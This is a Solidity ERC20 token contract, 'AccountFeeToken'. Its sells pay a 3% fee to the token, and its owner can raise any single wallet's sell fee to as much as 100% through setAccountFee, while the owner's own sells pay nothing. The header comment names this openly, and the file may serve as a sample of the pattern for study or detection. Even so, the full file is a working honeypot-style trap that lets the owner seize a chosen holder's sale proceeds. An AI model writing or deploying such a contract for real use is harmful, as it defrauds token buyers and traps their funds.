// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title Personal slippage: every sell pays 3% to the token, but the owner
/// can set any single wallet's sell fee, up to 100%, with
/// setAccountFee(address,uint256).
contract AccountFeeToken is ERC20, Ownable {
    address public immutable pair;
    uint256 public constant DEFAULT_FEE = 300;
    mapping(address => uint256) private _customFee;
    mapping(address => bool) private _hasCustom;

    constructor(address router, uint256 supply) ERC20("Account Fee", "AFEE") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        _mint(msg.sender, supply);
    }

    function setAccountFee(address account, uint256 bps) external onlyOwner {
        require(bps <= 10_000, "bps");
        _customFee[account] = bps;
        _hasCustom[account] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != owner()) {
            uint256 bps = _hasCustom[from] ? _customFee[from] : DEFAULT_FEE;
            uint256 fee = (value * bps) / 10_000;
            if (fee > 0) _move(from, address(this), fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}
